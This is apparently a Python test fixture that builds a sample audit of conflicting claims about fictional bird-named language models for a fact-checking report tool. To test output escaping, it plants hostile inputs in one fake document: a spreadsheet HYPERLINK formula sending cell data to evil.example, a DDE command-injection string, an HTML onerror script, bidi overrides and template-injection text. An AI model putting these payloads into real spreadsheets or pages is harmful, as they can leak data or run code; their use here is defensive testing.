"""An audit made by hand: every verdict, every status, and a document that means harm."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from decimal import Decimal

from extract.claim import Claim, Interval, Qualifier, Rejected, Status
from extract.words.pack import Attribute, EntityNouns, Examples, Grammar, Pack
from reconcile.decision import Choice, Entry, Member
from reconcile.finding import Cluster, Finding, GateStatus, Kind, Suggestion, Verdict
from reconcile.lineage import NO_LINEAGE, Lineage, Place, Repeat
from reconcile.names import NO_NAMES, NameMerge, Names
from reconcile.validation import Expectation, Validation
from reports.interface import Audit, DocumentRow, Guide, StaleDecision
from sources.document import Unread

HOSTILE_DOCUMENT = "notes/<script>.md"
HOSTILE_ENTITY = '=HYPERLINK("http://evil.example/?x="&A1,"Tern-9")'
BIDI_QUOTE = "\u202e13 billion\u202c"
LONG_WORD = "Tern-" + "9" * 400


def attribute(title: str, type_: str, unit: str = "", severity: str = "medium") -> Attribute:
    """Make an attribute that has only what reports read."""
    return Attribute.model_validate(
        {
            "title": title,
            "type": type_,
            "unit": unit,
            "severity": severity,
            "examples": Examples.model_validate({"hit": "x", "claims": [{"entity": "x", "value": "1"}], "miss": "y"}),
        }
    )


PACK = Pack(
    format=1,
    name="birds",
    title="Language models named after birds",
    entity=EntityNouns(nouns=("model",)),
    grammar=Grammar(version=r"v\d", size=r"\d+b"),
    attributes={
        "parameters_total": attribute("Parameters (total)", "number", "parameters", "high"),
        "parameters_active": attribute("Parameters (active)", "number", "parameters", "high"),
        "context_length": attribute("Context length", "number", "tokens"),
        "training_cost_usd": attribute("Training cost", "money", "USD"),
        "release_date": attribute("Release date", "date", severity="high"),
        "license": attribute("License", "term", severity="low"),
        "official": attribute("Official release", "flag", severity="low"),
    },
)


def _place(claim: Claim) -> Place:
    return Place(claim.document, claim.start, claim.end)


def exactly(value: str) -> Interval:
    """Make the interval of one number."""
    return Interval(Decimal(value), Decimal(value))


def days(first: date, last: date) -> Interval:
    """Make the interval of a date."""
    return Interval(Decimal(first.toordinal()), Decimal(last.toordinal()))


def claim(
    document: str, line: int, entity: str, name: str, value: str, quote: str, context: str, **more: object
) -> Claim:
    """Make a claim that stands 10 characters into its line, 100 characters a line."""
    start = line * 100 + 10
    known = PACK.attributes[name]
    made = Claim(
        document=document,
        start=start,
        end=start + len(quote),
        line=line,
        column=11,
        quote=quote,
        context=context,
        surface=entity,
        entity=entity,
        attribute=name,
        value=value,
        unit=known.unit if known.type == "number" else "",
        interval=exactly(value) if known.type in ("number", "money") and "/" not in value else None,
        qualifier=Qualifier.NONE,
        scope="",
        status=Status.ASSERTED,
        rule="prose.unit",
    )
    return replace(made, **more)  # type: ignore[arg-type]  # the fields are named by the caller


def cluster(value: str, *claims: Claim) -> Cluster:
    """Make a cluster of claims."""
    return Cluster(value, tuple(c.claim_id for c in claims), tuple(sorted({c.document for c in claims})))


_LONG_SENTENCE = (
    "In a passage that goes on for much longer than anyone would care to read, with clause after clause about the "
    "weather on the coast, the habits of the crew and the colour of the boats, it is mentioned in passing that "
    "Tern-2 ships with 236B parameters in all, after which the passage returns to the boats, to the crew and to "
    "the weather, as if nothing of consequence had been said, and does not come back to the subject at any later "
    "point, however long one waits for it."
)

TERN_2 = (
    claim("a.md", 6, "Tern-2", "parameters_total", "236000000000", "236 billion", "Tern-2 has 236 billion parameters."),
    claim(
        "b.md",
        101,
        "Tern-2",
        "parameters_total",
        "236000000000",
        "236B",
        "| Tern-2 | 236B | 128K |",
        rule="table.header",
        interval=Interval(Decimal("235.5e9"), Decimal("236.5e9")),
    ),
    claim("b.md", 140, "Tern-2", "parameters_total", "236000000000", "236B", _LONG_SENTENCE),
    claim(
        "c/overview.html",
        12,
        "Tern-2",
        "parameters_total",
        "236000000000",
        "236&nbsp;B",
        "About 236 B parameters (21 B active).",
        qualifier=Qualifier.ABOUT,
        interval=Interval(Decimal("224.2e9"), Decimal("247.8e9")),
    ),
    claim(
        "e.md",
        42,
        "Tern-2",
        "parameters_total",
        "671000000000",
        "671B",
        "V2 was then scaled to 671B parameters.",
        surface="V2",
    ),
)
TERN_3 = tuple(
    claim(path, line, "Tern-3", "parameters_total", "671000000000", "671B", "Tern-3: 671B in total, 671B on disk.")
    for path, line in (("a.md", 9), ("b.md", 102), ("c/overview.html", 30))
)
RELEASED = (
    claim(
        "a.md",
        20,
        "Tern-2",
        "release_date",
        "2024-05-07",
        "7 May 2024",
        "Tern-2 was released on 7 May 2024.",
        interval=days(date(2024, 5, 7), date(2024, 5, 7)),
    ),
    claim(
        "e.md",
        50,
        "Tern-2",
        "release_date",
        "2023-11",
        "November 2023",
        "Released in November 2023, Tern-2 was the first of its kind.",
        interval=days(date(2023, 11, 1), date(2023, 11, 30)),
        rule="prose.date",
    ),
)
CONTEXT = (
    claim(
        "b.md", 60, "Tern-2", "context_length", "128000", "128K", "Context window: 128K", rule="item.label", surface=""
    ),
    claim("b.md", 90, "Tern-2", "context_length", "32000", "32K", "Tern-2 reads 32K tokens."),
)
ACTIVE = (
    claim("e.md", 70, "Tern-4", "parameters_total", "7000000000", "7B", "Tern-4 (7B)"),
    claim("e.md", 71, "Tern-4", "parameters_active", "21000000000", "21B", "21B of them active"),
)
LICENSES = (
    claim("a.md", 80, "Tern-2", "license", "MIT", "MIT", "License: MIT"),
    claim("e.md", 81, "Tern-2", "license", "Apache-2.0", "Apache 2.0", "Licensed under Apache 2.0", interval=None),
)
POSSIBLE = (
    claim(
        "a.md",
        31,
        "Tern-3",
        "training_cost_usd",
        "5576000",
        "$5.576M",
        "Pre-training took $5.576M.",
        scope="pre-training",
    ),
    claim("b.md", 33, "Tern-3", "training_cost_usd", "6000000", "~$6 M", "cost: ~$6 M", qualifier=Qualifier.ABOUT),
)
IMPLAUSIBLE = (
    claim("e.md", 75, "Tern-5", "parameters_total", "5", "5", "Tern-5 has 5 parameters.", status=Status.HEDGED),
)
COST = (claim("c/overview.html", 77, "Tern-2", "training_cost_usd", "5600000", "$5.6M", "It cost $5.6M."),)
RANGE = (
    claim(
        "b.md",
        95,
        "Tern-1",
        "context_length",
        "4000/16000",
        "4k~16k",
        "Context 4k~16k",
        qualifier=Qualifier.RANGE,
        interval=Interval(Decimal(4000), Decimal(16000)),
    ),
    claim(
        "c/overview.html",
        96,
        "Tern-1",
        "context_length",
        "4000",
        "4,000 or more",
        "4,000 or more tokens",
        qualifier=Qualifier.AT_LEAST,
        interval=Interval(Decimal(4000), None),
    ),
)
HOSTILE = (
    claim(
        HOSTILE_DOCUMENT,
        1,
        HOSTILE_ENTITY,
        "parameters_total",
        "13000000000",
        BIDI_QUOTE,
        f'<img src=x onerror="alert(1)">\n{BIDI_QUOTE}\x1b[31m & <b>bold</b> {{{{ 7*7 }}}}',
    ),
    claim(
        HOSTILE_DOCUMENT,
        2,
        HOSTILE_ENTITY,
        "parameters_total",
        "26000000000",
        "26\r\nbillion",
        f"@SUM(A1:A9) {LONG_WORD} 26\r\nbillion",
    ),
)
UNRESOLVED = (claim("a.md", 99, "V2", "release_date", "2024", "2024", "V2 came in 2024.", interval=None),)


def finding(
    serial: int, entity: str, name: str, verdict: Verdict, kind: Kind, reason: str, *clusters: Cluster, **more: object
) -> Finding:
    """Make a finding numbered `serial`."""
    made = Finding(
        finding_id=f"f{serial:012x}",
        fingerprint=f"v1:{serial:064x}",
        entity=entity,
        attribute=name,
        scope="",
        verdict=verdict,
        kind=kind,
        severity="",
        clusters=clusters,
        reason=reason,
    )
    return replace(made, **more)  # type: ignore[arg-type]  # the fields are named by the caller


FINDINGS = (
    finding(
        1,
        "Tern-2",
        "parameters_total",
        Verdict.CONFLICT,
        Kind.ATTRIBUTION,
        "Three documents say 236 billion and one says 671 billion. 671 billion is Tern-3's agreed figure: this "
        "sentence probably names the wrong model.",
        cluster("236000000000", *TERN_2[:4]),
        cluster("671000000000", TERN_2[4]),
        severity="high",
        suggestion=Suggestion("236000000000", "3 independent sources against 1", "strong", 0),
        status=GateStatus.NEW,
    ),
    finding(
        2,
        "Tern-2",
        "release_date",
        Verdict.CONFLICT,
        Kind.DATE,
        "The dates lie 158 days apart.",
        cluster("2024-05-07", RELEASED[0]),
        cluster("2023-11", RELEASED[1]),
        severity="high",
        suggestion=Suggestion("", "balanced, so nothing is suggested: 1 source against 1", "balanced"),
        status=GateStatus.REOPENED,
        status_reason="reopened: e.md brings 2023-11; before: 2024 is wrong (R. Reviewer): the maker's site says May",
    ),
    finding(
        3,
        "Tern-2",
        "context_length",
        Verdict.CONFLICT,
        Kind.VALUE,
        "One document gives both figures.",
        cluster("128000", CONTEXT[0]),
        cluster("32000", CONTEXT[1]),
        severity="medium",
        also=(Kind.WITHIN_DOCUMENT,),
        status=GateStatus.KNOWN,
        status_reason="deferred by R. Reviewer: the maker has been asked",
    ),
    finding(
        4,
        "Tern-4",
        "parameters_active",
        Verdict.CONFLICT,
        Kind.RULE,
        "Tern-4 would have more active parameters (21 billion) than parameters (7 billion).",
        cluster("21000000000", ACTIVE[1]),
        cluster("7000000000", ACTIVE[0]),
        severity="medium",
        status=GateStatus.EXPIRED,
        status_reason="the decision of 2024-01-01 expired on 2024-06-30",
    ),
    finding(
        5,
        "Tern-2",
        "license",
        Verdict.CONFLICT,
        Kind.VALUE,
        "The documents name two licenses.",
        cluster("MIT", LICENSES[0]),
        cluster("Apache-2.0", LICENSES[1]),
        severity="low",
        status=GateStatus.DECIDED,
        status_reason="wrong: Apache-2.0 is the license of the code",
    ),
    finding(
        6,
        HOSTILE_ENTITY,
        "parameters_total",
        Verdict.CONFLICT,
        Kind.SCALE,
        "=1+1 is how this reason starts,\nand it goes on.",
        cluster("26000000000", HOSTILE[1]),
        cluster("13000000000", HOSTILE[0]),
        severity="high",
        status=GateStatus.NEW,
    ),
    finding(
        7,
        "Tern-3",
        "training_cost_usd",
        Verdict.POSSIBLE,
        Kind.VALUE,
        "A conflict if the second figure is of pre-training, too.",
        cluster("5576000", POSSIBLE[0]),
        cluster("6000000", POSSIBLE[1]),
        severity="medium",
    ),
    finding(
        8,
        "Tern-5",
        "parameters_total",
        Verdict.IMPLAUSIBLE,
        Kind.NONE,
        "5 lies outside 1 million to 20 trillion.",
        cluster("5", IMPLAUSIBLE[0]),
        severity="high",
    ),
    finding(
        9,
        "Tern-3",
        "parameters_total",
        Verdict.AGREEMENT,
        Kind.SAME,
        "All three say the same.",
        cluster("671000000000", *TERN_3),
    ),
    finding(
        10,
        "Tern-1",
        "context_length",
        Verdict.AGREEMENT,
        Kind.RANGE,
        "4,000 or more takes in 4,000 to 16,000.",
        cluster("4000/16000", *RANGE),
    ),
    finding(
        11, "Tern-2", "training_cost_usd", Verdict.SINGLE, Kind.NONE, "One document says so.", cluster("5600000", *COST)
    ),
    finding(
        12,
        "V2",
        "release_date",
        Verdict.UNRESOLVED,
        Kind.NONE,
        "V2 may be Tern-2 or Gull-2.",
        cluster("2024", *UNRESOLVED),
    ),
    finding(13, "Tern-2", "official", Verdict.NOT_COMPARABLE, Kind.NONE, "The flags mean different things."),
)

_GROUPS = (TERN_2, TERN_3, RELEASED, CONTEXT, ACTIVE, LICENSES, POSSIBLE, IMPLAUSIBLE, COST, RANGE, HOSTILE, UNRESOLVED)

CLAIMS = tuple(sorted((c for group in _GROUPS for c in group), key=lambda c: (c.document, c.start, c.attribute)))

REJECTED = tuple(
    Rejected(path, line * 100, line * 100 + len(quote), line, quote, reason, note)
    for path, line, quote, reason, note in (
        ("a.md", 3, "93.3 %", "percentage", ""),
        ("a.md", 4, "42.5 %", "percentage", ""),
        ("a.md", 5, "42.5 %", "percentage", ""),
        ("a.md", 8, "[3, 4]", "citation", ""),
        ("b.md", 7, "50 %", "percentage", ""),
        ("b.md", 8, "12 %", "percentage", ""),
        ("b.md", 9, "13 %", "percentage", ""),
        ("b.md", 10, "14 %", "percentage", ""),
        ("b.md", 11, "5.8×", "speed-up", ""),
        ("e.md", 12, "14T", "no entity in reach", "the new model"),
        (HOSTILE_DOCUMENT, 3, "<i>1</i>", "no entity in reach", "=cmd|' /C calc'!A0"),
    )
)

DOCUMENTS = tuple(
    DocumentRow(
        path=path,
        sha256=f"{serial:064x}",
        encoding=encoding,
        encoding_assumed=assumed,
        characters=20_000,
        lines=200,
        claims=sum(c.document == path for c in CLAIMS),
        rejected=sum(r.document == path for r in REJECTED),
    )
    for serial, (path, encoding, assumed) in enumerate(
        (
            ("a.md", "utf-8", False),
            ("b.md", "utf-8", False),
            ("c/overview.html", "cp1252", True),
            ("e.md", "utf-8", False),
            (HOSTILE_DOCUMENT, "utf-16", False),
        ),
        1,
    )
)

UNREAD = (
    Unread("broken.bin", "is binary (a zero byte stands at offset 4)"),
    Unread("c/overview.html", "holds bytes that are no cp1252", (900, 904)),
    Unread("caf\udce9.md", "is empty"),
)
VALIDATION = Validation(
    engine="great_expectations 1.24.1",
    expectations=(
        Expectation("every claim has an entity", True, len(CLAIMS), ()),
        Expectation("every claim id occurs once", True, len(CLAIMS), ()),
        Expectation("parameters_total lies in 1000000/20000000000000", False, 12, (IMPLAUSIBLE[0].claim_id,)),
        Expectation("release_date lies in 2017-06-01/2026-12-31", False, 3, ()),
    ),
)
STALE = (StaleDecision("f0000000000aa", "Tern-0", "license", "", "no document states this conflict any more"),)


LINEAGE = Lineage(
    voices=tuple(claim.document for claim in CLAIMS),
    documents={"a.md": "a.md", HOSTILE_DOCUMENT: "a.md"},
    repeats=(Repeat(("a.md", "b.md"), 1, 0.25, ((_place(TERN_2[0]), _place(TERN_2[1])),)),),
)
NAMES = Names(
    {},
    {},
    merges=(NameMerge("Ternn-2", "Tern-2", 95.24, "one family's name in two spellings, alike to 95 of 100"),),
    near=(NameMerge(HOSTILE_ENTITY, "Tern-2", 85.5, "kept apart: alike to 86, below 93"),),
)


REOPENED = Entry(
    fingerprint=FINDINGS[1].fingerprint,
    entity="Tern-2",
    attribute="release_date",
    scope="",
    members=(Member("2024", "old.md", ("h0123456789ab",)), Member("2024-05-07", "a.md", ("h0123456789ab",))),
    choice=Choice.WRONG,
    wrong=("2024",),
    reason="the maker's site says May",
    reviewer="R. Reviewer",
    line=3,
)


def audit() -> Audit:
    """Return the audit with everything in it."""
    return Audit(
        version="0.1.0",
        title="Catalogue of sea birds",
        pack=PACK,
        documents=DOCUMENTS,
        unread=UNREAD,
        claims=CLAIMS,
        rejected=REJECTED,
        findings=FINDINGS,
        validation=VALIDATION,
        stale=STALE,
        exit_code=1,
        gate="4 conflicts are new and unresolved: 2 new, 1 reopened, 1 expired.",
        lineage=LINEAGE,
        names=NAMES,
        above={("b.md", 6010): "Birds & others › Tern-2", ("b.md", 10110): "row “Tern-2” › column “Parameters”"},
        guide=Guide(
            link="../docs/{document}#L{line}",
            decisions="factaudit-decisions.yaml",
            accept='factaudit accept --config audit.yaml --reason "asked"',
            prune="factaudit accept --config audit.yaml --prune",
        ),
        entries={REOPENED.fingerprint: REOPENED},
    )


def peaceful() -> Audit:
    """Return an audit without a conflict, in which nothing went wrong."""
    findings = tuple(f for f in FINDINGS if f.verdict is Verdict.AGREEMENT)
    members = {claim_id for f in findings for c in f.clusters for claim_id in c.claims}
    return replace(
        audit(),
        unread=(),
        claims=tuple(c for c in CLAIMS if c.claim_id in members),
        findings=findings,
        stale=(),
        lineage=NO_LINEAGE,
        names=NO_NAMES,
        exit_code=0,
        gate="No conflict is new and unresolved.",
    )


def empty() -> Audit:
    """Return an audit of documents that state nothing, with the checks turned off."""
    return replace(
        peaceful(),
        documents=(),
        claims=(),
        rejected=(),
        findings=(),
        validation=None,
        exit_code=2,
        gate="No two documents speak of the same fact: nothing could be compared.",
    )
